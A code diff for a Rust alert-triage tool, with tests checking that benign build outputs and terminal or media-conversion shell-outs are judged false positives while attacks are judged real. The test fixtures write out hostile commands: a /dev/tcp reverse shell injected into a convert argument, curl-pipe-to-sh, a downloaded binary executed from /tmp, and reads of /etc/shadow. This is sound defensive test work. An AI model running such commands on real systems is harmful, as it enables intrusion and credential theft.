@@ -675,6 +675,37 @@ impl Triage<'_> {
                         .built(p, sessions.writer(at, p), a.dropped_parent.as_deref())
                         .is_some())
         });
+        // An executable in a drop directory that the catalogue explains as built (a
+        // compiler of the same session wrote it, or a build tool runs its own temporary
+        // output) is the entry's known-benign activity, not only the absence of a dropped
+        // binary: the entry's weight counts, anchored like any entry (unattended).
+        if cat.is_none() && dropped.is_none() && !downloaded && net_stdio.is_none() {
+            if let Some((entry, by)) = a.dropped_exe.as_ref().and_then(|(_, p)| {
+                let w = sessions.writer(at, p);
+                self.catalogue
+                    .built(p, w, a.dropped_parent.as_deref())
+                    .map(|e| (e, w.or(a.dropped_parent.as_deref()).unwrap_or("?")))
+            }) {
+                let (who, who_ja) = (
+                    format!("{proc_name} (built by {by})"),
+                    format!("{proc_name}（{by} が生成）"),
+                );
+                let desc = match lang {
+                    Lang::En => entry.description_en.clone(),
+                    Lang::Ja => entry.description_ja.clone(),
+                };
+                out.push(hit(
+                    "known_benign",
+                    entry.weight,
+                    vec![
+                        ("who", if lang == Lang::Ja { who_ja } else { who }),
+                        ("entry", entry.name.clone()),
+                        ("desc", desc),
+                        ("actor", by.to_string()),
+                    ],
+                ));
+            }
+        }
         if let Some((lvl, path)) = dropped {
             let whose = match (lang, *lvl) {
                 (Lang::En, 0) => "the process itself".to_string(),
@@ -1042,7 +1073,7 @@ mod tests {
   priority: WARNING
 - rule: Run shell untrusted
   desc: shell under a database or php
-  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm)
+  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm, sqlplus)
   output: shell (shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)
   priority: NOTICE
 - rule: Read environ
@@ -1703,5 +1734,121 @@ mod tests {
             with.summary
         );
         assert_ne!(with.cluster, clean.cluster);
+    }
+
+    /// Issue 11 (anchors): a CI runner's job running the test binary its compiler just
+    /// wrote in a temp directory is the build-output catalogue entry's activity, and nobody
+    /// entered the job: a likely false positive. The same binary in a person's session is
+    /// not anchored (anyone at a terminal can compile and run), and the same path written
+    /// by a download in the CI job is a dropped binary.
+    #[test]
+    fn ci_job_running_its_own_build_output_is_anchored() {
+        let job = |sid: i64, writer: &str, shell: serde_json::Value| {
+            let mut w = json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":sid,"evt.rawtime":5,"proc.name":writer,"proc.pname":"bash","fd.name":"/tmp/go-build77/b052/queue.test"});
+            let mut x = json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":6,"proc.name":"queue.test","proc.exepath":"/tmp/go-build77/b052/queue.test","proc.pname":"go"});
+            let mut g = json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":4,"proc.name":writer,"proc.exepath":"/usr/local/go/bin/go","proc.cmdline":format!("{writer} test ./..."),"proc.pname":"bash"});
+            for v in [&mut w, &mut x, &mut g] {
+                for (k, val) in shell.as_object().unwrap() {
+                    v[k] = val.clone();
+                }
+            }
+            x["proc.aname[2]"] = json!("bash");
+            x["proc.aname[3]"] = shell["proc.aname[2]"].clone();
+            vec![l(g), l(w), l(x)]
+        };
+        let runner = json!({"proc.tty":0,"proc.aname[2]":"gitlab-runner"});
+        let r = verdict_of(&job(700, "go", runner), "Exec from tmp");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
+        assert!(
+            r[0].reasons[0].evidence.contains("build_output")
+                || r.iter().any(|c| c
+                    .reasons
+                    .iter()
+                    .any(|x| x.evidence.contains("build_output"))),
+            "{:#?}",
+            r[0]
+        );
+        // A person at a terminal: the same evidence, no anchor.
+        let person = json!({"proc.tty":34816,"proc.aname[2]":"sshd"});
+        let r = verdict_of(&job(701, "go", person), "Exec from tmp");
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        // The CI job running a file curl fetched there: dropped, no catalogue match.
+        let dl = [
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":702,"evt.rawtime":4,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -sSLo /tmp/go-build77/b052/queue.test https://198.51.100.9/q","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0}),
+            json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":702,"evt.rawtime":5,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0,"fd.name":"/tmp/go-build77/b052/queue.test"}),
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":702,"evt.rawtime":6,"proc.name":"queue.test","proc.exepath":"/tmp/go-build77/b052/queue.test","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0}),
+        ];
+        let dl: Vec<String> = dl.into_iter().map(l).collect();
+        let r = verdict_of(&dl, "Exec from tmp");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
+    }
+
+    /// Issue 11 (terminal helpers): a terminal client's `sh -c "stty -echo; stty echo;
+    /// tput cols"` is harmless whoever runs it: anchored even in a person's session when
+    /// the shell is the system's own. A shell string with any other command, a
+    /// substitution or a shell that is not the system's own is not.
+    #[test]
+    fn terminal_probe_through_a_shell_is_anchored_and_nothing_else_is() {
+        let sh = |sid: i64, cmd: &str, exe: &str| {
+            vec![
+                l(
+                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
+                ),
+                l(
+                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.name":"sh","proc.exepath":exe,"proc.cmdline":format!("sh -c {cmd}"),"proc.tty":34816,"proc.pname":"sqlplus","proc.aname[2]":"bash","proc.aname[3]":"sshd"}),
+                ),
+            ]
+        };
+        let r = verdict_of(
+            &sh(710, "stty -echo; stty echo; tput cols", "/usr/bin/sh"),
+            "Run shell untrusted",
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        for (sid, cmd, exe) in [
+            (711, "stty -echo; cat /etc/shadow", "/usr/bin/sh"),
+            (712, "stty $(cat /etc/shadow)", "/usr/bin/sh"),
+            (713, "stty -echo > /tmp/x", "/usr/bin/sh"),
+            (714, "stty -echo; tput cols", "/tmp/sh"),
+        ] {
+            let r = verdict_of(&sh(sid, cmd, exe), "Run shell untrusted");
+            assert_ne!(
+                r[0].verdict,
+                Verdict::LikelyFalsePositive,
+                "{cmd} {exe}: {:#?}",
+                r[0]
+            );
+        }
+    }
+
+    /// Issue 11 (service patterns): a web application's `sh -c convert ...` thumbnail is
+    /// the media-conversion entry's activity, a service's own child nobody entered: likely
+    /// false positive. The same shell-out with an injected command, a reverse shell or a
+    /// download is not.
+    #[test]
+    fn web_app_media_conversion_is_anchored_and_injections_are_not() {
+        let sh = |sid: i64, cmd: &str| {
+            vec![l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":format!("sh -c {cmd}"),"proc.pname":"php-fpm","user.name":"www-data","user.uid":33}),
+            )]
+        };
+        let r = verdict_of(
+            &sh(
+                720,
+                "convert /tmp/phpQk8 -resize 320x320 /var/www/up/thumbs/a.jpg",
+            ),
+            "Run shell untrusted",
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        for (sid, cmd) in [
+            (721, "convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png"),
+            (722, "convert a.png b.jpg; curl -s http://198.51.100.7/x | sh"),
+            (723, "convert $(id) b.jpg"),
+            (724, "cat /etc/passwd"),
+        ] {
+            let r = verdict_of(&sh(sid, cmd), "Run shell untrusted");
+            assert_eq!(r[0].verdict, Verdict::LikelyReal, "{cmd}: {:#?}", r[0]);
+        }
     }
 }
